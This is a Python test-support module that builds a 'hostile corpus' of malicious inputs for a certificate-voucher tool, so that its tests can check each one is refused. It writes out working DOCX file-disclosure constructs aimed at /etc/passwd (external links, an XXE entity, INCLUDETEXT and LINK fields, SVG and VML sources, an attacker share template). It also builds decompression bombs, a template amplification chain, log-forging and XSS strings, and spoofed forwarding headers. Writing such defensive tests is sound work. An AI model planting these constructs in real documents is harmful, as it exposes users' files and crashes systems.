"""The hostile corpus: every bad input we were shown, and its cousins, generated (never stored as blobs).

Each function writes one case into a folder and returns its path.  The tests in this folder
call them; `python tests/hostile/corpus.py OUTDIR` writes them all for trying by hand.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import struct
import sys
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/, for support.*

from fjvoucher.layout import FIELDS  # noqa: E402
from fjvoucher.word.master import default_master  # noqa: E402
from support.synthetic import make_candidates, make_photo, write_roster_xlsx  # noqa: E402

REL_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


def rows(count: int = 3, seed: int = 61) -> list[dict]:
    """Return valid candidates to spoil."""
    return make_candidates(count, seed=seed)


def roster(folder: Path, data: list[dict], name: str = "r.xlsx", **kwargs) -> Path:
    return write_roster_xlsx(folder / name, data, **kwargs)


# --- masters -------------------------------------------------------------------------------------

def rewrite_master(target: Path, change=lambda name, data: data, extra: dict[str, bytes] | None = None) -> Path:
    """Copy the bundled master to `target`, every part through change(name, bytes), adding `extra` parts."""
    with zipfile.ZipFile(default_master()) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, change(item.filename, src.read(item)))
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return target


def _with_body(target: Path, xml: str) -> Path:
    def change(name, data):
        if name == "word/document.xml":
            return data.replace(b"<w:body>", b"<w:body>" + xml.encode("utf-8"), 1)
        return data
    return rewrite_master(target, change)


def master_linked_picture(folder: Path) -> Path:
    """A picture linked, not embedded, to a local file: LibreOffice would embed /etc/passwd in every PDF."""
    def change(name, data):
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", f'<Relationship Id="rIdEvil" Type="{REL_IMAGE}" '
                                f'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'.encode())
        return data
    return rewrite_master(folder / "linked.docx", change)


def master_attached_template(folder: Path) -> Path:
    """settings.xml attaching a template on a network share."""
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="file://attacker/share/t.dotm" TargetMode="External"/></Relationships>')
    return rewrite_master(folder / "attached.docx", extra={"word/_rels/settings.xml.rels": rels})


def master_entity(folder: Path) -> Path:
    """An XML external entity in document.xml."""
    def change(name, data):
        if name == "word/document.xml":
            return data.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
        return data
    return rewrite_master(folder / "entity.docx", change)


def master_include_field(folder: Path) -> Path:
    """An INCLUDETEXT field that pulls a local file into the document."""
    return _with_body(folder / "include.docx", '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.txt&quot; ">'
                      '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def master_ole_object(folder: Path) -> Path:
    """An embedded OLE object."""
    return _with_body(folder / "ole.docx", '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
                      'office" ProgID="Package"/></w:object></w:r></w:p>')


def master_malformed(folder: Path) -> Path:
    """document.xml cut in the middle: unreadable DOCX would be written from it."""
    def change(name, data):
        return data[: len(data) // 2] if name == "word/document.xml" else data
    return rewrite_master(folder / "malformed.docx", change)


def master_with_tags(folder: Path, tags: str, name: str = "tags.docx") -> Path:
    """The bundled master with `tags` (Jinja) added as a paragraph."""
    escaped = tags.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return _with_body(folder / name, f"<w:p><w:r><w:t>{escaped}</w:t></w:r></w:p>")


def master_mergefield_malformed(folder: Path) -> Path:
    """A Word MERGEFIELD master whose XML is broken."""
    return _with_body(folder / "mf-broken.docx", '<w:p><w:fldSimple w:instr=" MERGEFIELD 姓名 "><w:r><w:t>«姓名»'
                      '</w:t></w:r></w:fldSimple><w:p>')


def _with_rels(target: Path, relationships: str, extra: dict[str, bytes] | None = None, body: str = "") -> Path:
    """The bundled master with `relationships` added to document.xml.rels, `body` to its body, `extra` parts."""
    def change(name, data):
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", relationships.encode("utf-8") + b"</Relationships>")
        if name == "word/document.xml" and body:
            return data.replace(b"<w:body>", b"<w:body>" + body.encode("utf-8"), 1)
        return data
    return rewrite_master(target, change, extra)


# Class 1 of issue 19: the checks read the bytes; each of these means the same XML to Word and LibreOffice.
def master_external_by_character_reference(folder: Path) -> Path:
    """TargetMode written with a character reference: "&#69;xternal" is "External" once parsed."""
    return _with_rels(folder / "charref.docx", f'<Relationship Id="rIdEvil" Type="{REL_IMAGE}" '
                      'Target="file:///etc/passwd" TargetMode="&#69;xt&#x65;rnal"/>')


def master_external_without_mode(folder: Path) -> Path:
    """An absolute file URL as target with no TargetMode at all."""
    return _with_rels(folder / "nomode.docx", f'<Relationship Id="rIdEvil" Type="{REL_IMAGE}" '
                      'Target="file:///etc/passwd"/>')


def master_external_other_prefix(folder: Path) -> Path:
    """settings.xml.rels written with a namespace prefix: <p:Relationship …>."""
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><p:Relationships xmlns:p="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><p:Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" Target="\\\\attacker\\share\\t.dotm" '
            b'TargetMode = \'External\'/></p:Relationships>')
    return rewrite_master(folder / "prefix.docx", extra={"word/_rels/settings.xml.rels": rels})


def master_object_other_prefix(folder: Path) -> Path:
    """An OLE object under another prefix for the WordprocessingML namespace."""
    return _with_body(folder / "objprefix.docx", '<w:p><w:r><x:object xmlns:x="http://schemas.openxmlformats.org/'
                      'wordprocessingml/2006/main"/></w:r></w:p>')


def master_field_by_character_reference(folder: Path) -> Path:
    """INCLUDETEXT written with a character reference in a simple field's instruction."""
    return _with_body(folder / "fieldref.docx", '<w:p><w:fldSimple w:instr=" &#73;NCLUDETEXT &quot;/etc/passwd&quot; ">'
                      '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def master_field_split_over_runs(folder: Path) -> Path:
    """A LINK field whose name Word split over two runs ("LI" + "NK")."""
    return _with_body(folder / "fieldsplit.docx", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                      '<w:r><w:instrText xml:space="preserve"> LI</w:instrText></w:r>'
                      '<w:r><w:instrText xml:space="preserve">NK Excel.Sheet.8 "/etc/passwd" "" \\a '
                      '</w:instrText></w:r>'
                      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
                      '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def master_field_built_by_field(folder: Path) -> Path:
    """{ { QUOTE "INCLUDETEXT" } "/etc/passwd" }: the outer field's name is the inner field's result."""
    def field(instr):
        return (f'<w:r><w:instrText xml:space="preserve">{instr}</w:instrText></w:r>')
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return _with_body(folder / "fieldbuilt.docx", f'<w:p>{begin}{begin}{field(" QUOTE &quot;INCLUDETEXT&quot; ")}'
                      f'{end}{field(" &quot;/etc/passwd&quot; ")}{end}</w:p>')


def master_vml_image_source(folder: Path) -> Path:
    """A VML picture whose source is a local file, no relationship involved."""
    return _with_body(folder / "vml.docx", '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
                      'style="width:10pt;height:10pt"><v:imagedata src="file:///etc/passwd"/></v:shape>'
                      '</w:pict></w:r></w:p>')


def master_svg_linking_a_file(folder: Path) -> Path:
    """An embedded SVG picture (internal, so no external relationship) that links /etc/passwd itself."""
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" '
           b'height="10"><image xlink:href="file:///etc/passwd" width="10" height="10"/></svg>')
    types_added = {"[Content_Types].xml": b'<Default Extension="svg" ContentType="image/svg+xml"/>'}

    def change(name, data):
        if name in types_added:
            return data.replace(b"</Types>", types_added[name] + b"</Types>")
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", f'<Relationship Id="rIdSvg" Type="{REL_IMAGE}" '
                                'Target="media/p.svg"/></Relationships>'.encode())
        return data
    return rewrite_master(folder / "svg.docx", change, {"word/media/p.svg": svg})


def master_declared_latin1(folder: Path) -> Path:
    """A part that declares another encoding: Word would read its bytes differently from us."""
    def change(name, data):
        if name == "word/styles.xml":
            return re.sub(rb"encoding=['\"]UTF-8['\"]", b'encoding="ISO-8859-1"', data, count=1)
        return data
    return rewrite_master(folder / "latin1.docx", change)


def master_duplicate_part(folder: Path) -> Path:
    """Two members for one part (OPC names ignore case): which one a reader takes is up to the reader."""
    return rewrite_master(folder / "dup.docx", extra={"Word/Document.xml": b"<x/>"})


def master_mail_merge_other_prefix(folder: Path) -> Path:
    """Mail-merge settings under another prefix, the data file's path written with character references."""
    block = (f'<m:mailMerge xmlns:m="{W_NS}"><m:mainDocumentType m:val="formLetters"/><m:dataType m:val="native"/>'
             '<m:connectString m:val="D:\\&#32771;&#21153;\\&#21517;&#20876;.xls"/>'
             '<m:query m:val="SELECT * FROM `合格人员名册$`"/></m:mailMerge>')

    def change(name, data):
        if name == "word/settings.xml":
            return re.sub(rb"(<w:settings\b[^>]*>)", lambda m: m.group(1) + block.encode("utf-8"), data, count=1)
        return data
    return rewrite_master(folder / "mailmerge.docx", change)


# Class 2: a document nested in the master is printed without being looked at.
def _inner_docx_with_link() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as inner:
        inner.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                       'content-types"/>')
        inner.writestr("word/_rels/document.xml.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/'
                       f'package/2006/relationships"><Relationship Id="r1" Type="{REL_IMAGE}" '
                       'Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    return buffer.getvalue()


def master_alt_chunk(folder: Path) -> Path:
    """An altChunk ("insert text from file") holding a whole .docx with its own external link."""
    return _with_rels(folder / "altchunk.docx", '<Relationship Id="rIdAlt" Type="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships/aFChunk" Target="inner.docx"/>',
                      {"word/inner.docx": _inner_docx_with_link()}, '<w:altChunk r:id="rIdAlt"/>')


def master_sub_document(folder: Path) -> Path:
    """A master document's subdocument (w:subDoc) in the package."""
    return _with_rels(folder / "subdoc.docx", '<Relationship Id="rIdSub" Type="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships/subDocument" Target="inner.docx"/>',
                      {"word/inner.docx": _inner_docx_with_link()}, '<w:p><w:subDoc r:id="rIdSub"/></w:p>')


def master_embedded_package(folder: Path) -> Path:
    """A .docx embedded as an OLE package part, referenced only from the relationships."""
    return _with_rels(folder / "package.docx", '<Relationship Id="rIdPkg" Type="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships/package" Target="embeddings/inner.docx"/>',
                      {"word/embeddings/inner.docx": _inner_docx_with_link()})


# Class 3: parts a voucher does not need travel with every voucher.
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
LEFTOVERS = {"word/vbaProject.bin": b"VBA macro project: Sub AutoOpen()", "notes/secret.txt": "考生名单 王芳".encode(),
             "word/unused.xml": b"<unused>old draft</unused>", "docProps/thumbnail.jpeg": b"\xff\xd8 thumbnail"}


def master_with_leftovers(folder: Path) -> Path:
    """A macro-enabled master with its macro project, a thumbnail, and files no relationship names."""
    def change(name, data):
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", f'<Relationship Id="rIdVba" Type="{VBA_REL}" '
                                'Target="vbaProject.bin"/></Relationships>'.encode())
        if name == "_rels/.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdThumb" Type="http://schemas.'
                                b'openxmlformats.org/package/2006/relationships/metadata/thumbnail" '
                                b'Target="docProps/thumbnail.jpeg"/></Relationships>')
        if name == "[Content_Types].xml":
            data = re.sub(rb"application/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml",
                          MACRO_MAIN.encode(), data)
            return data.replace(b"</Types>", b'<Override PartName="/word/vbaProject.bin" ContentType="application/'
                                b'vnd.ms-office.vbaProject"/><Default Extension="jpeg" ContentType="image/jpeg"/>'
                                b"</Types>")
        return data
    return rewrite_master(folder / "leftovers.docx", change, LEFTOVERS)


# Class 4: fields where fjvoucher does not merge (footnotes, endnotes, comments, a header under another name).
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def _note(kind: str, inner: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{kind}s xmlns:w="{W_NS}">'
            f'<w:{kind} w:id="1"><w:p>{inner}</w:p></w:{kind}></w:{kind}s>').encode()


def master_with_part(folder: Path, file_name: str, part: str, rel_type: str, content_type: str, data: bytes,
                     body: str = "") -> Path:
    """The bundled master with one more part, linked from document.xml and typed in [Content_Types].xml."""
    def change(name, old):
        if name == "word/_rels/document.xml.rels":
            return old.replace(b"</Relationships>", f'<Relationship Id="rIdExtra" Type="{REL}/{rel_type}" '
                               f'Target="{part.removeprefix("word/")}"/></Relationships>'.encode())
        if name == "[Content_Types].xml":
            return old.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{WML}.{content_type}"/>'
                               "</Types>".encode())
        if name == "word/document.xml" and body:
            return old.replace(b"<w:body>", b"<w:body>" + body.encode("utf-8"), 1)
        return old
    return rewrite_master(folder / file_name, change, {part: data})


def master_footnote_placeholder(folder: Path) -> Path:
    """{{ name }} in a footnote: printed as written on every voucher."""
    return master_with_part(folder, "footnote.docx", "word/footnotes.xml", "footnotes", "footnotes+xml",
                            _note("footnote", "<w:r><w:t>持证人 {{ name }}</w:t></w:r>"),
                            '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')


def master_endnote_mergefield(folder: Path) -> Path:
    """A Word MERGEFIELD «姓名» in an endnote."""
    return master_with_part(folder, "endnote.docx", "word/endnotes.xml", "endnotes", "endnotes+xml",
                            _note("endnote", '<w:fldSimple w:instr=" MERGEFIELD 姓名 "><w:r><w:t>«姓名»</w:t></w:r>'
                                  "</w:fldSimple>"),
                            '<w:p><w:r><w:endnoteReference w:id="1"/></w:r></w:p>')


def master_comment_placeholder(folder: Path) -> Path:
    """A placeholder split over two runs in a comment."""
    return master_with_part(folder, "comment.docx", "word/comments.xml", "comments", "comments+xml",
                            _note("comment", "<w:r><w:t>{</w:t></w:r><w:r><w:t>{ id_number }}</w:t></w:r>"))


def master_header_other_name(folder: Path) -> Path:
    """A header part named word/top.xml (Word finds headers by relationship, not by name) holding {{ name }}."""
    header = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}"><w:p><w:r>'
              "<w:t>{{ name }}</w:t></w:r></w:p></w:hdr>").encode()
    return master_with_part(folder, "header.docx", "word/top.xml", "header", "header+xml", header)


# Class 5: a filter chain that multiplies a value; many placeholders that each grow one.
AMPLIFIER = '{{ id_number|replace("", id_number)|replace("", id_number)|replace("", id_number) }}'


def master_amplifying_filter(folder: Path) -> Path:
    """The chain that made one row a 894 MB document.xml."""
    return master_with_tags(folder, AMPLIFIER, "amplifier.docx")


def master_amplifying_condition(folder: Path) -> Path:
    """The same chain where nothing is printed: inside an {% if %} test."""
    return master_with_tags(folder, '{% if name|replace("", name)|replace("", name) %}x{% endif %}', "ampif.docx")


def master_many_growing_placeholders(folder: Path, count: int = 80) -> Path:
    """`count` placeholders each within its own bound, together past a voucher's budget on a long name."""
    return master_with_tags(folder, '{{ name|replace("", " ") }}' * count, "many.docx")


# --- rosters -------------------------------------------------------------------------------------

# Class 12: names that print alike but are not the same characters.
INVISIBLE_NAMES = ["王\u200b芳", "李\u202e明", "张\u00ad伟", "陈\ufeff静", "刘\u2060洋", "赵\u200d磊", "孙\u2028丽",
                   "周\u3164强"]
MARKS_ONLY_NAMES = ["\u0301\u0302\u0303", "\u0301王芳"]


def roster_invisible_names(folder: Path) -> Path:
    """Names with a zero-width space, a bidi override, a soft hyphen … inside; names of combining marks only."""
    names = INVISIBLE_NAMES + MARKS_ONLY_NAMES
    data = rows(len(names), seed=91)
    for row, name in zip(data, names, strict=True):
        row["name"] = name
    return roster(folder, data, "invisible.xlsx")


# Class 13: one person's 15-digit legacy ID and 18-digit ID.
def legacy_id(id18: str) -> str:
    """Return the 15-digit number an 18-digit ID of someone born in the 1900s was upgraded from."""
    return id18[:6] + id18[8:17]


def roster_legacy_duplicates(folder: Path) -> Path:
    """The second row repeats the first's person and occupation under the 15-digit ID; the fourth gives the
    third's ID another name."""
    data = rows(4, seed=92)
    data[1] = {**data[0], "certificate_no": data[1]["certificate_no"], "id_number": legacy_id(data[0]["id_number"])}
    data[3] = {**data[3], "id_number": legacy_id(data[2]["id_number"]), "birth_date": data[2]["birth_date"],
               "sex": data[2]["sex"]}
    return roster(folder, data, "legacy.xlsx")


# Class 19: formula cells that failed (#REF!, #DIV/0!) or hold no result; calamine reads them as blank or 0.
def _formula_rows() -> list[dict]:
    data = rows(4, seed=94)
    data[0]["name"] = "#REF!"  # openpyxl stores an error literal as an error cell (t="e")
    data[1]["theory_score"] = "#DIV/0!"
    data[2]["name"] = "=VLOOKUP(A4,考生!A:B,2,FALSE)"  # a formula saved by a script: no result stored
    return data


def roster_formula_errors_xlsx(folder: Path) -> Path:
    """Row 3's name is #REF!, row 4's theory score #DIV/0!, row 5's name a formula without a result."""
    return roster(folder, _formula_rows(), "formula.xlsx")


def roster_formula_errors_csv(folder: Path) -> Path:
    """The same roster saved as CSV by Excel: the cells hold the text Excel showed (#REF!, #DIV/0!)."""
    data = _formula_rows()
    data[2]["name"] = "Err:502"  # what LibreOffice shows
    return csv_file(folder, data, "formula.csv", "utf-8")


def roster_formula_errors_xls(folder: Path) -> Path:
    """The .xlsx case saved as .xls (BIFF8) by LibreOffice, which calculates the formulas: row 3's name is an
    error constant #REF!, row 4's theory score #DIV/0!, row 5's name a formula whose result is #REF! or a value."""
    import subprocess

    from fjvoucher.pdf.libreoffice import find_soffice

    data = _formula_rows()
    data[2]["name"] = "王芳"
    source = roster(folder, data, "formula-xls.xlsx")
    profile = folder / "lo-profile"
    subprocess.run([str(find_soffice()), f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    "--convert-to", "xls", "--outdir", str(folder), str(source)], check=True, capture_output=True,
                   timeout=180)
    return source.with_suffix(".xls")


def roster_formula_errors_ods(folder: Path) -> Path:
    """An .ods whose row 2 name is an error stored as float 0 (older LibreOffice, no calcext) and whose row 3
    theory score is a calcext error cell."""
    data = rows(3, seed=95)
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    calcext = "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"

    def cell(value) -> str:
        shown = str(value).replace("&", "&amp;").replace("<", "&lt;")
        return f'<table:table-cell office:value-type="string"><text:p>{shown}</text:p></table:table-cell>'

    error_zero = ('<table:table-cell table:formula="of:=[.Z99]/0" office:value-type="float" office:value="0">'
                  "<text:p>#DIV/0!</text:p></table:table-cell>")
    error_calcext = ('<table:table-cell table:formula="of:=#REF!" office:value-type="string" office:string-value="" '
                     'calcext:value-type="error"><text:p>#REF!</text:p></table:table-cell>')
    lines = ["<table:table-row>" + "".join(cell(f.header) for f in FIELDS) + "</table:table-row>"]
    for n, row in enumerate(data):
        cells = [cell(row[f.key]) for f in FIELDS]
        if n == 0:
            cells[[f.key for f in FIELDS].index("name")] = error_zero
        if n == 1:
            cells[[f.key for f in FIELDS].index("theory_score")] = error_calcext
        lines.append("<table:table-row>" + "".join(cells) + "</table:table-row>")
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}" '
               f'xmlns:table="{table}" xmlns:text="{text}" xmlns:calcext="{calcext}" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="合格人员名册">'
               + "".join(lines) + "</table:table></office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/"'
                ' manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    path = folder / "formula.ods"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        package.writestr("META-INF/manifest.xml", manifest)
        package.writestr("content.xml", content)
    return path


def roster_far_cell(folder: Path) -> Path:
    """A small .xlsx with one cell at XFD1048576: the reader would allocate the whole sheet (512 GB)."""
    path = roster(folder, rows(2), "far.xlsx")
    with zipfile.ZipFile(path) as src:
        parts = {i.filename: src.read(i) for i in src.infolist()}
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    parts[sheet] = parts[sheet].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    return path


def roster_huge_string(folder: Path, megabytes: int = 300) -> Path:
    """A small .xlsx whose shared strings unpack to `megabytes` MB (one enormous string)."""
    path = roster(folder, rows(2), "huge.xlsx")
    with zipfile.ZipFile(path) as src:
        parts = {i.filename: src.read(i) for i in src.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
        with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
            out.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"a" * (1 << 20)
            for _ in range(megabytes):
                out.write(chunk)
            out.write(b"</t></si></sst>")
    return path


def roster_hidden_first_sheet(folder: Path) -> Path:
    """A workbook whose first sheet is hidden (old data) and whose second, active sheet is this month's."""
    from openpyxl import Workbook

    book = Workbook()
    old = book.active
    old.title = "旧名册"
    old.append(["作废的数据"])
    old.sheet_state = "hidden"
    current = book.create_sheet("本月名册")
    current.append([f.header for f in FIELDS])
    for row in rows(3):
        current.append([row[f.key] for f in FIELDS])
    book.active = 1
    path = folder / "hidden.xlsx"
    book.save(path)
    return path


def csv_file(folder: Path, data: list[dict], name: str, encoding: str, delimiter: str = ",",
             quoting: int = csv.QUOTE_MINIMAL) -> Path:
    """Write `data` as CSV in `encoding` (utf-16 gets its BOM, as Excel's "Unicode 文本" has)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, quoting=quoting)
    writer.writerow([f.header for f in FIELDS])
    for row in data:
        writer.writerow([str(row[f.key]) for f in FIELDS])
    path = folder / name
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def truncated_xlsx(folder: Path) -> Path:
    path = roster(folder, rows(3), "truncated.xlsx")
    path.write_bytes(path.read_bytes()[:1500])
    return path


# --- requests to the verification server (classes 15-18) --------------------------------------------

MALFORMED_REQUESTS = [b"NOT A REQUEST LINE\r\n\r\n", b"GET / HTTP/1.1\r\nHost: x\r\nBad\x01: y\r\n\r\n"]
FORGED_LOG_PATH = "/v/X%0a2026-01-01%2000:00:00%20GET%20/healthz%20200"  # a log line of its own, were %0a kept
HOSTILE_ROOT_PATHS = ['/v"><script>', "/a b", "/a?b", "/%2e%2e"]


def forwarded_for(n: int) -> dict[str, str]:
    """Headers claiming the request was forwarded for client `n` (a new client each, if believed)."""
    return {"X-Forwarded-For": f"203.0.113.{n}", "Forwarded": f"for=198.51.100.{n}", "X-Real-IP": f"192.0.2.{n}"}


# --- photos --------------------------------------------------------------------------------------

def photo_rotated(path: Path) -> Path:
    """A phone photo stored landscape (413×295) with EXIF orientation 6: it shows upright as 295×413."""
    from PIL import Image

    upright = Image.open(make_photo(path.with_suffix(".tmp.jpg"), seed=3))
    sideways = upright.transpose(Image.Transpose.ROTATE_90)
    exif = Image.Exif()
    exif[0x0112] = 6
    sideways.save(path, "JPEG", exif=exif.tobytes())
    path.with_suffix(".tmp.jpg").unlink()
    return path


def photo_truncated(path: Path) -> Path:
    make_photo(path, seed=4)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def png_claiming(path: Path, width: int, height: int) -> Path:
    """A tiny PNG that claims width × height pixels (a decompression bomb when large)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b""))
                     + chunk(b"IEND", b""))
    return path


# --- settings (config.toml) ----------------------------------------------------------------------

# (config.toml text, the key the error must name, a word of what is expected): every one is refused
# on `config set` (where a CLI value can say it) and when any command reads the file.
BAD_SETTINGS = [
    ('center_name = ["福州市职业技能鉴定指导中心"]\n', "center_name", "带引号的文字"),  # printed ['…'] on the seal
    ('center_name = 3501\n', "center_name", "带引号的文字"),
    ('center_name = "福州市职业技能鉴定\\n指导中心"\n', "center_name", "U+000A"),
    ('center_name = "福州市\u200b职业技能鉴定指导中心"\n', "center_name", "U+200B"),
    ('center_name = "' + "福" * 300 + '"\n', "center_name", "50"),
    ('center_name = ""\n', "center_name", "全称"),
    ('center_code = 3501\n', "center_code", "带引号的文字"),  # a TOML integer
    ('center_code = "35-01"\n', "center_code", "数字"),
    ('center_code = "３５０１"\n', "center_code", "数字"),  # full-width digits
    ('center_code = "35011234567"\n', "center_code", "数字"),
    ('verify_url = "https://' + "a" * 3000 + '.cn/verify"\n', "verify_url", "100"),  # ended in a bug report
    ('verify_url = "ftp://jd.example.cn/verify"\n', "verify_url", "https://"),
    ('verify_url = "javascript:alert(1)"\n', "verify_url", "https://"),
    ('verify_url = "jd.example.cn/verify"\n', "verify_url", "https://"),
    ('verify_url = "https://jd.example.cn/verify?x=1"\n', "verify_url", "?"),
    ('verify_url = "https://jd.example.cn:port/verify"\n', "verify_url", "https://"),
    ('verify_url = "https://user@evil.example/verify"\n', "verify_url", "https://"),
    ('verify_url = "https://jd.example.cn/ver ify"\n', "verify_url", "https://"),
    ('verify_url = ["https://jd.example.cn"]\n', "verify_url", "带引号的文字"),
    ('ledger = "$FJV_HOSTILE_UNSET/x.db"\n', "ledger", "$FJV_HOSTILE_UNSET"),  # made a folder named $HOME
    ('ledger = "${FJV_HOSTILE_UNSET}/x.db"\n', "ledger", "${FJV_HOSTILE_UNSET}"),
    ('ledger = "%FJV_HOSTILE_UNSET%/x.db"\n', "ledger", "%FJV_HOSTILE_UNSET%"),
    ('ledger = "relative/ledger.db"\n', "ledger", "相对路径"),
    ('ledger = 1\n', "ledger", "带引号的文字"),
    ('ledger = true\n', "ledger", "带引号的文字"),
    ('photos = "$FJV_HOSTILE_UNSET/photos"\n', "photos", "$FJV_HOSTILE_UNSET"),
    ('photos = {dir = "/tmp"}\n', "photos", "带引号的文字"),
    ('phone = "call 0591"\n', "phone", "电话号码"),
    ('phone = "0591-87654321\\n<script>"\n', "phone", "U+000A"),
    ('output = "$FJV_HOSTILE_UNSET/凭证"\n', "output", "$FJV_HOSTILE_UNSET"),
    ('output = "凭证"\n', "output", "相对路径"),
    ('colour = "red"\n', "colour", "不是 fjvoucher 的设置"),  # unknown keys were ignored silently
    ('center = "福州市职业技能鉴定指导中心"\n', "center", "不是 fjvoucher 的设置"),  # a near miss of center_name
    ('[center_name]\nfull = "x"\n', "center_name", "带引号的文字"),
    # Not TOML at all: the line is named instead of the key.
    ('center_code = "3501"\ncenter_code = "3502"\n', "line 2", "格式有误"),  # a repeated key
    ('center_name = "\\uD800"\n', "line 1", "格式有误"),  # a lone surrogate TOML cannot hold
]


def config_file(path: Path, text: str) -> Path:
    """Write a hand-edited config.toml."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# --- output folders -----------------------------------------------------------------------------

PERMISSIVE_UMASKS = (0o022, 0o002, 0o000)  # a shared machine's usual umasks: folders listable by others


def deep_new_folder(folder: Path, name: str) -> Path:
    """Return a path three folders below `folder`, none of which exists yet."""
    return folder / name / "月份" / "out"


def unusable_output_folders(folder: Path) -> list[tuple[str, Path]]:
    """Return output folders a merge cannot make or write in, each set up below `folder`."""
    (folder / "a-file").write_text("not a folder", encoding="utf-8")
    (folder / "a-link").symlink_to(folder / "nowhere")
    cases = [("a file", folder / "a-file"), ("a file as parent", folder / "a-file" / "out"),
             ("a broken link", folder / "a-link"), ("below a broken link", folder / "a-link" / "out"),
             ("a name too long", folder / ("名" * 90) / "out")]
    if sys.platform.startswith("linux"):
        cases.append(("inside /proc", Path("/proc/fjvoucher-hostile/out")))  # mkdir fails even for root
    if hasattr(os, "geteuid") and os.geteuid() != 0:  # root writes anywhere
        (folder / "read-only").mkdir(mode=0o500)
